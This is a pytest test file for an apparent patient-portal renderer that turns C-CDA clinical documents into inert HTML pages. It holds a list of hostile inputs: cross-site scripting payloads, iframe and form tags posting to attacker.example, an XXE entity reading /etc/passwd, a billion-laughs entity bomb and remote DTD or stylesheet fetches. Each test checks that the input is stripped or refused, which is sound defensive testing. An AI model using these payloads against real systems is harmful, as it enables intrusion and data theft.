"""C-CDA documents of others as pages: complete to read, and nothing in them acts."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from lxml import etree, html

from fhir_portal.documents import cda_page
from fhir_portal.documents.ccda.document import as_ccd
from fhir_portal.documents.cda_page import NotReadable, as_page
from tests.charts import a_chart
from tests.search.corpus import data_folder, has_data

SAMPLES = sorted((data_folder() / "ccda").glob("*.xml")) if has_data() else []
V3 = "{urn:hl7-org:v3}"
ALLOWED = set(
    "html head meta title style body main h1 h2 h3 h4 h5 h6 dl dt dd section div p li ul ol br sub"
    " sup table thead tbody tfoot tr th td small strong em u span caption pre".split()
)


def a_document(
    text: str = "<text>words</text>", *, title: str = "Notes", before: str = "", after: str = ""
) -> bytes:
    return (
        f'<?xml version="1.0"?>{before}<ClinicalDocument xmlns="urn:hl7-org:v3" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xmlns:h="http://www.w3.org/1999/xhtml" xmlns:sdtc="urn:hl7-org:sdtc">'
        f"<title>{title}</title>{after}<component><structuredBody><component><section>"
        f"<title>First</title>{text}"
        "</section></component></structuredBody></component></ClinicalDocument>"
    ).encode()


def shown(content: bytes) -> str:
    return " ".join("".join(map(str, html.fromstring(as_page(content)).itertext())).split())


def assert_inert(page: bytes) -> None:
    """Nothing but known elements; no attribute but the template's own and spans of cells."""
    for element in html.fromstring(page).iter():
        assert element.tag in ALLOWED, element.tag
        if element.tag in {"html", "meta"}:
            continue
        assert set(element.attrib) <= {"rowspan", "colspan"}, element.attrib
    assert page.count(b"<style>") == 1


@pytest.mark.skipif(not SAMPLES, reason="no sample data; set FHIR_PORTAL_TEST_DATA")
@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: path.stem)
def test_the_narrative_of_real_looking_documents_is_all_there(path: Path) -> None:
    content = path.read_bytes()
    page = as_page(content)
    assert_inert(page)
    text = shown(content)
    tree = etree.fromstring(content)
    words = [
        word
        for section in tree.iter(f"{V3}section")
        for one in (section.find(f"{V3}title"), section.find(f"{V3}text"))
        if one is not None
        for piece in one.itertext(tag=etree.Element)
        for word in str(piece).split()
    ]
    assert [word for word in words if word not in text] == []
    body = tree.find(f"{V3}component/{V3}nonXMLBody/{V3}text")
    if body is not None:
        assert "Chronic cervical pain" in text
    assert words or body is not None


def test_our_own_document_can_be_read_as_well() -> None:
    text = shown(as_ccd(a_chart()))
    for words in ("Ada Quill", "May 12, 1984", "Eczema", "A thin layer twice a day", "95 mg/dL"):
        assert words in text


def test_formatting_that_is_known_is_kept() -> None:
    page = as_page(
        a_document(
            '<text><paragraph>One<br/>two</paragraph><list listType="ordered"><caption>Do</caption>'
            '<item>first</item></list><content styleCode="Bold xRed">loud</content>'
            '<table width="100%"><caption>T</caption><thead><tr><th colspan="2">h</th></tr></thead>'
            '<tbody><tr><td rowspan="99999">c</td></tr></tbody></table>tail</text>'
        )
    ).decode()
    for part in ("<p>One<br>two</p>", "<ol><strong>Do</strong><li>first</li></ol>",
                 "<strong>loud</strong>", '<th colspan="2">h</th>', "<td>c</td>",
                 "tail"):  # fmt: skip
        assert part in page


ATTACKS = [
    "<text><script>alert(1)</script></text>",
    "<text><h:script>alert(1)</h:script></text>",
    "<text><SCRIPT>alert(1)</SCRIPT></text>",
    "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>",
    "<text><![CDATA[<script>alert(1)</script>]]></text>",
    '<text><paragraph onclick="alert(1)" style="position:fixed">x</paragraph></text>',
    '<text><linkHtml href="javascript:alert(1)">x</linkHtml></text>',
    '<text><h:a href="javascript:alert(1)">x</h:a></text>',
    '<text><renderMultiMedia referencedObject="x"><caption>c</caption></renderMultiMedia></text>',
    '<text><h:img src="x" onerror="alert(1)"/></text>',
    '<text><h:iframe src="https://attacker.example/"/></text>',
    '<text><h:form action="https://attacker.example/"><h:input name="password"/></h:form></text>',
    '<text><table background="javascript:alert"><tr><td onclick="x">c</td></tr></table></text>',
    "<text><h:style>body{display:none}</h:style></text>",
    '<text><svg xmlns="http://www.w3.org/2000/svg" onload="x"><script>1</script></svg></text>',
    '<text><content styleCode="Bold&quot; onclick=&quot;alert(1)">x</content></text>',
    '<text><td colspan="2&quot; onclick=&quot;x">c</td></text>',
    "<text><h:noscript>&lt;p title=&quot;&lt;/noscript&gt;&lt;img src=x&gt;</h:noscript></text>",
    "<text><h:base href='https://attacker.example/'/><h:meta http-equiv='refresh'/></text>",
    "<text><math xmlns='http://www.w3.org/1998/Math/MathML'><h:style>x</h:style></math></text>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_what_acts_in_a_narrative_is_gone_or_text(text: str) -> None:
    page = as_page(a_document(text))
    assert_inert(page)
    for sign in (
        b"<script",
        b"<SCRIPT",
        b"javascript:alert",
        b"attacker.example",
        b'onclick="alert',
    ):
        assert sign not in page


def test_titles_and_names_are_text() -> None:
    evil = "&lt;img src=x onerror=alert(1)&gt;"
    patient = (
        "<recordTarget><patientRole><patient><name><given>"
        f"{evil}</given></name><birthTime value='&lt;b&gt;'/></patient></patientRole>"
        "</recordTarget>"
    )
    assert_inert(as_page(a_document(title=evil, after=patient)))


XXE = '<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE ClinicalDocument [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)


@pytest.mark.parametrize(
    ("before", "text"),
    [
        (XXE, "<text>&x;</text>"),
        (LAUGHS, "<text>&i;</text>"),
        ('<!DOCTYPE ClinicalDocument SYSTEM "http://127.0.0.1:9/x.dtd">', "<text/>"),
        ('<!DOCTYPE ClinicalDocument [<!ENTITY % x SYSTEM "http://127.0.0.1:9/"> %x;]>', "<text/>"),
        ("<!DOCTYPE ClinicalDocument>", "<text/>"),
        ("<!DOCTYPE x [<!ATTLIST td onclick CDATA 'alert(1)'>]>", "<text><td>c</td></text>"),
        ("", "<text>&undefined;</text>"),
    ],
)
def test_a_document_type_or_an_entity_is_refused(before: str, text: str) -> None:
    with pytest.raises(NotReadable):
        as_page(a_document(text, before=before))


def test_a_stylesheet_that_the_document_names_is_not_looked_at() -> None:
    page = as_page(
        a_document(
            before='<?xml-stylesheet type="text/xsl" href="https://attacker.example/x.xsl"?>'
        )
    )
    assert_inert(page)
    assert b"attacker" not in page


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"not xml",
        b"<a/>",
        b"<ClinicalDocument/>",
        b"<html><script>alert(1)</script></html>",
        b"%PDF-1.7",
        b"\x00" * 100,
        "<ClinicalDocument xmlns='urn:hl7-org:v3'><title>".encode("utf-16"),
        b'<ClinicalDocument xmlns="urn:hl7-org:v3">',
        a_document()[:-20],
    ],
)
def test_what_is_no_document_is_refused_in_plain_words(content: bytes) -> None:
    with pytest.raises(NotReadable) as refused:
        as_page(content)
    assert "alert" not in str(refused.value)


def test_depth_size_elements_and_sections_have_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    deep = f"<text>{'<content>' * 200}x{'</content>' * 200}</text>"
    deeper = f"<text>{'<content>' * 5000}x{'</content>' * 5000}</text>"
    for text in (deep, deeper):
        with pytest.raises(NotReadable):
            as_page(a_document(text))
    with pytest.raises(NotReadable, match="larger"):
        as_page(b"<" * (cda_page.MAX_BYTES + 1))
    empty = "<component><section><text/></section></component>"
    many = f"</section></component>{empty * 600}<component><section>"
    with pytest.raises(NotReadable, match="sections"):
        as_page(a_document(many))
    monkeypatch.setattr(cda_page, "MAX_ELEMENTS", 50)
    with pytest.raises(NotReadable, match="too many"):
        as_page(a_document(f"<text>{'<br/>' * 60}</text>"))


def test_a_body_that_is_no_xml_is_shown_if_it_is_text() -> None:
    def unstructured(attributes: str, body: str) -> bytes:
        return (
            '<ClinicalDocument xmlns="urn:hl7-org:v3"><component><nonXMLBody>'
            f"<text {attributes}>{body}</text></nonXMLBody></component></ClinicalDocument>"
        ).encode()

    evil = base64.b64encode(b"<script>alert(1)</script>").decode()
    page = as_page(unstructured('mediaType="text/plain" representation="B64"', evil))
    assert_inert(page)
    assert b"&lt;script&gt;" in page
    for attributes in ('mediaType="text/html" representation="B64"',
                       'mediaType="text/plain" representation="B64" x="a"'):  # fmt: skip
        assert_inert(as_page(unstructured(attributes, evil)))
    for media in ("text/html", "application/pdf"):
        page = as_page(unstructured(f'mediaType="{media}" representation="B64"', evil))
        assert b"Download the original" in page
        assert b"alert" not in page


def test_the_encoding_a_document_names_hides_nothing() -> None:
    text = "<text>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</text>"
    for encoding in ("UTF-7", "US-ASCII", "ISO-8859-1"):
        content = a_document(text).replace(b'"1.0"', f'"1.0" encoding="{encoding}"'.encode(), 1)
        page = as_page(content)
        assert_inert(page)
        assert b"<script" not in page
    assert "words" in shown(a_document().decode().encode("utf-16"))
